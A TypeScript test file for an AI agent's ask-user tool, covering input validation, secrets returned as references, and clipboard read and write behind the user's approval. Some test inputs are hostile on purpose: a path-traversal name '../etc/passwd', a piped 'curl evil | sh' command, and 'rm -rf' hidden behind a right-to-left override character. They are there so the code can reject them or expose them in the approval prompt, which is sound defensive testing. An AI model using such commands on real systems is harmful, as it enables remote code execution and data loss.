/** Agent questions: input checking, the schema shown, and answers that never carry a secret value. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  askClipboardQuestion,
  describeApproval,
  type ClipboardAccess,
  type ClipboardApproval,
} from '../../src/core/askUser/clipboardQuestions';
import { InvalidRequestError } from '../../src/core/errors';
import { normalize } from '../../src/core/form/normalize';
import type { ElicitRequest, ElicitResult } from '../../src/core/request';
import {
  OTHER_VALUE,
  TOOL_QUESTION_SCHEMA,
  askToolQuestion,
  readToolQuestion,
  toRequestedSchema,
  toToolAnswer,
} from '../../src/core/askUser/toolQuestions';

const asker = { kind: 'tool' as const, name: 'AI agent' };

describe('readToolQuestion', () => {
  it('accepts each kind with what it needs', () => {
    assert.equal(readToolQuestion({ kind: 'text', question: 'Name?' }).kind, 'text');
    assert.deepEqual(readToolQuestion({ kind: 'choice', question: 'Key?', options: ['C', 'Am', 'C'] }).options, ['C', 'Am']);
    assert.equal(readToolQuestion({ kind: 'secret', question: 'Key?', secretName: 'openai-api-key' }).secretName, 'openai-api-key');
  });
  for (const [input, message] of [
    [null, /must be an object/],
    [{ kind: 'poll', question: 'x' }, /"kind" must be one of/],
    [{ kind: 'text', question: '  ' }, /"question"/],
    [{ kind: 'choice', question: 'x' }, /needs "options"/],
    [{ kind: 'form', question: 'x' }, /needs "schema"/],
    [{ kind: 'secret', question: 'x' }, /needs "secretName"/],
    [{ kind: 'secret', question: 'x', secretName: '../etc/passwd' }, /"secretName" must be/],
    [{ kind: 'choice', question: 'x', options: [1, 2] }, /"options" must be a list of strings/],
  ] as const) {
    it(`refuses ${JSON.stringify(input)}`, () => {
      assert.throws(
        () => readToolQuestion(input),
        (e: unknown) => e instanceof InvalidRequestError && message.test(e.message),
      );
    });
  }
});

describe('toRequestedSchema', () => {
  it('gives every kind a schema Elicit can draw', () => {
    for (const q of [
      { kind: 'text', question: 'q', defaultValue: 'hi' },
      { kind: 'choice', question: 'q', options: ['a', 'b'], allowOther: true },
      { kind: 'multiChoice', question: 'q', options: ['a', 'b'] },
      { kind: 'confirm', question: 'q' },
      { kind: 'secret', question: 'q', secretName: 'token' },
      { kind: 'form', question: 'q', schema: { type: 'object', properties: { n: { type: 'integer' } } } },
    ] as const) {
      const form = normalize(toRequestedSchema(readToolQuestion(q)));
      assert.ok(form.fields.length >= 1, q.kind);
    }
    const secret = normalize(toRequestedSchema(readToolQuestion({ kind: 'secret', question: 'q', secretName: 'token' })));
    assert.equal(secret.fields[0]!.kind === 'text' && secret.fields[0]!.secret, true);
    const other = normalize(toRequestedSchema(readToolQuestion({ kind: 'choice', question: 'q', options: ['a'], allowOther: true })));
    assert.deepEqual(other.fields[0]!.kind === 'choice' && other.fields[0]!.options.at(-1), { value: OTHER_VALUE, label: 'Other…' });
  });

  it('refuses a form schema that cannot be drawn', () => {
    assert.throws(
      () =>
        toRequestedSchema(
          readToolQuestion({ kind: 'form', question: 'q', schema: { type: 'object', properties: { a: { type: 'object' } } } }),
        ),
      InvalidRequestError,
    );
  });
});

describe('toToolAnswer and askToolQuestion', () => {
  it('returns a reference, never the value, for a secret, and stores the value by name', async () => {
    const saved: Record<string, string> = {};
    const q = readToolQuestion({ kind: 'secret', question: 'Paste your key', secretName: 'openai-api-key' });
    const answer = await askToolQuestion(
      {
        ask: async () => ({ action: 'accept', content: { 'openai-api-key': 'sk-live-999' } }),
        saveSecret: async (n, v) => void (saved[n] = v),
      },
      asker,
      q,
    );
    assert.equal(answer.reference, '${secret:openai-api-key}');
    assert.ok(!JSON.stringify(answer).includes('sk-live-999'));
    assert.deepEqual(saved, { 'openai-api-key': 'sk-live-999' });
  });

  it("replaces a form's secret fields by references", () => {
    const q = readToolQuestion({
      kind: 'form',
      question: 'Account',
      schema: { type: 'object', properties: { user: { type: 'string' }, password: { type: 'string', format: 'password' } } },
    });
    assert.deepEqual(toToolAnswer(q, { action: 'accept', content: { user: 'ada', password: 'pw' } }), {
      action: 'accept',
      answer: { user: 'ada', password: '${secret:password}' },
    });
  });

  it('asks a follow-up for "Other…" and passes decline/cancel through', async () => {
    const asked: ElicitRequest[] = [];
    const replies: ElicitResult[] = [
      { action: 'accept', content: { answer: OTHER_VALUE } },
      { action: 'accept', content: { answer: 'Lydian' } },
    ];
    const q = readToolQuestion({ kind: 'choice', question: 'Mode?', options: ['Ionian', 'Dorian'], allowOther: true });
    const answer = await askToolQuestion(
      { ask: async (r) => (asked.push(r), replies.shift()!), saveSecret: async () => undefined },
      asker,
      q,
    );
    assert.deepEqual(answer, { action: 'accept', answer: 'Lydian' });
    assert.equal(asked.length, 2);
    assert.deepEqual(toToolAnswer(q, { action: 'decline' }), { action: 'decline' });
    assert.deepEqual(toToolAnswer(q, { action: 'cancel' }), { action: 'cancel' });
  });

  it('is declared in package.json with exactly this input schema', () => {
    const pkg = JSON.parse(readFileSync(join(__dirname, '..', '..', 'package.json'), 'utf8'));
    const tool = pkg.contributes.languageModelTools.find((t: { name: string }) => t.name === 'elicit_ask_user');
    assert.deepEqual(tool.inputSchema, JSON.parse(JSON.stringify(TOOL_QUESTION_SCHEMA)));
  });
});

describe('device questions: clipboardWrite and clipboardRead', () => {
  /** A clipboard over a string, an approval that answers from a script, and what happened. */
  function device(choice: 'accept' | 'decline' | 'cancel', clipboard = '') {
    const state = { clipboard, approvals: [] as ClipboardApproval[], writes: 0, reads: 0 };
    const access: ClipboardAccess = {
      approve: async (approval) => (state.approvals.push(approval), choice),
      readClipboard: async () => (state.reads++, state.clipboard),
      writeClipboard: async (text) => {
        state.writes++;
        state.clipboard = text;
      },
    };
    return { state, access };
  }
  const noForms = {
    ask: async (): Promise<ElicitResult> => assert.fail('a device question is not a form'),
    saveSecret: async () => undefined,
  };

  it('reads the inputs: clipboardWrite needs text; clipboardRead only a question', () => {
    assert.equal(
      readToolQuestion({ kind: 'clipboardWrite', question: 'Copy the command?', text: 'npm run deploy' }).text,
      'npm run deploy',
    );
    assert.equal(readToolQuestion({ kind: 'clipboardRead', question: 'May I read the error you copied?' }).kind, 'clipboardRead');
    assert.throws(() => readToolQuestion({ kind: 'clipboardWrite', question: 'x' }), /needs "text"/);
    assert.throws(() => readToolQuestion({ kind: 'clipboardWrite', question: 'x', text: 7 }), /"text" must be a string/);
    assert.ok((TOOL_QUESTION_SCHEMA.properties.kind.enum as readonly string[]).includes('clipboardRead'));
  });

  it('refuses text to copy longer than the approval shows (2000 characters): what is pasted is what was seen', async () => {
    const whole = readToolQuestion({ kind: 'clipboardWrite', question: 'Copy?', text: 'a'.repeat(2000) });
    assert.equal(whole.text!.length, 2000);
    assert.throws(
      () => readToolQuestion({ kind: 'clipboardWrite', question: 'Copy?', text: `${'a'.repeat(2000)}; curl evil | sh` }),
      /"text" to copy may be at most 2000 characters/,
    );
    // Also where the clipboard is written, whoever built the question.
    const { state, access } = device('accept', 'before');
    await assert.rejects(
      askClipboardQuestion(access, asker, { kind: 'clipboardWrite', question: 'Copy?', text: 'a'.repeat(2001) }),
      /at most 2000 characters/,
    );
    assert.deepEqual([state.approvals.length, state.writes, state.clipboard], [0, 0, 'before']);
  });

  it('copies only after the person approved the text they were shown', async () => {
    const { state, access } = device('accept', 'before');
    const q = readToolQuestion({ kind: 'clipboardWrite', question: 'Copy the deploy command?', text: 'npm run deploy\n  --prod' });
    const answer = await askToolQuestion({ ...noForms, clipboard: access }, asker, q);
    assert.deepEqual(answer, { action: 'accept', note: 'Copied 23 characters to the clipboard.' });
    assert.deepEqual(state.approvals, [
      { kind: 'clipboardWrite', asker, question: 'Copy the deploy command?', text: 'npm run deploy\n  --prod' },
    ]);
    assert.equal(state.clipboard, 'npm run deploy\n  --prod');
  });

  it('a refusal is decline and closing is cancel; the clipboard is untouched either way', async () => {
    for (const choice of ['decline', 'cancel'] as const) {
      const { state, access } = device(choice, 'before');
      const answer = await askToolQuestion(
        { ...noForms, clipboard: access },
        asker,
        readToolQuestion({ kind: 'clipboardWrite', question: 'Copy?', text: 'x' }),
      );
      assert.deepEqual(answer, { action: choice });
      assert.deepEqual([state.clipboard, state.writes], ['before', 0]);
    }
  });

  it('returns the clipboard text the person saw, only when approved', async () => {
    const approved = device('accept', 'TypeError: x is undefined');
    const q = readToolQuestion({ kind: 'clipboardRead', question: 'May I read the error you copied?' });
    assert.deepEqual(await askToolQuestion({ ...noForms, clipboard: approved.access }, asker, q), {
      action: 'accept',
      answer: 'TypeError: x is undefined',
    });
    assert.equal(approved.state.approvals[0]!.text, 'TypeError: x is undefined', 'the approval showed what would be returned');
    const refused = device('decline', 'my password');
    const answer = await askToolQuestion({ ...noForms, clipboard: refused.access }, asker, q);
    assert.deepEqual(answer, { action: 'decline' });
    assert.ok(!JSON.stringify(answer).includes('my password'));
  });

  it('an approval that comes after the agent gave up does nothing', async () => {
    const controller = new AbortController();
    const late: ClipboardAccess = {
      approve: async () => (controller.abort(), 'accept'),
      readClipboard: async () => 'held',
      writeClipboard: async () => assert.fail('must not copy after a cancel'),
    };
    const write = readToolQuestion({ kind: 'clipboardWrite', question: 'Copy?', text: 'x' });
    assert.deepEqual(await askToolQuestion({ ...noForms, clipboard: late }, asker, write, controller.signal), { action: 'cancel' });
  });

  it('is refused where no clipboard is given', async () => {
    await assert.rejects(
      askToolQuestion(noForms, asker, readToolQuestion({ kind: 'clipboardRead', question: 'x' })),
      /clipboardRead is not available here/,
    );
  });
});

describe('describeApproval', () => {
  it('names the asker, keeps the lines, shows hidden characters by their code, and says when text is cut', () => {
    const gateway = { kind: 'gateway' as const, name: 'claude-code' };
    assert.deepEqual(describeApproval({ kind: 'clipboardWrite', asker: gateway, question: 'Copy?', text: 'rm -rf \u202Ebuild\nls' }), {
      message: 'claude-code wants to copy text to your clipboard',
      detail: 'Copy?\n\nThe text to copy (16 characters):\nrm -rf ⟨U+202E⟩build\nls',
    });
    const long = describeApproval({ kind: 'clipboardRead', asker, question: 'Read?', text: 'x'.repeat(2500) });
    assert.equal(long.message, 'AI agent wants to read your clipboard');
    assert.match(
      long.detail,
      /^Read\?\n\nYour clipboard holds \(2500 characters, the first 2000 shown\), and this is what would be returned:\nx{2000}\n…$/,
    );
    assert.equal(
      describeApproval({ kind: 'clipboardRead', asker, question: 'Read?', text: '' }).detail,
      'Read?\n\nYour clipboard holds no text.',
    );
  });
});
